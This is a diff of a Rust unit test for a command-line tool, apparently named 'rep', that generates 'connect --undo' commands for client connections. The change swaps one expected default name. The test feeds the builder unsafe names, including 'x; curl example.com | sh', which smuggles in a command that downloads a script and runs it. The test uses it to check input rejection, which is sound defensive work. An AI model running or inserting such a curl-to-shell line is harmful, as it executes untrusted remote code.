@@ -82,7 +82,7 @@ mod tests {
             let (client, path, name) = (&CLIENTS[0], PathBuf::new(), name.to_owned());
             Connection { client, owner: Owner::User, path, name, args: Vec::new() }.undo_command()
         };
-        assert_eq!(command("skills").as_deref(), Some("rep connect --undo claude-code"));
+        assert_eq!(command("repertoire").as_deref(), Some("rep connect --undo claude-code"));
         assert_eq!(command("mine").as_deref(), Some("rep connect --undo --name mine claude-code"));
         for name in ["x; curl example.com | sh", "$(x)", "`x`", "--all", "a b", ""] {
             assert_eq!(command(name), None, "{name}");
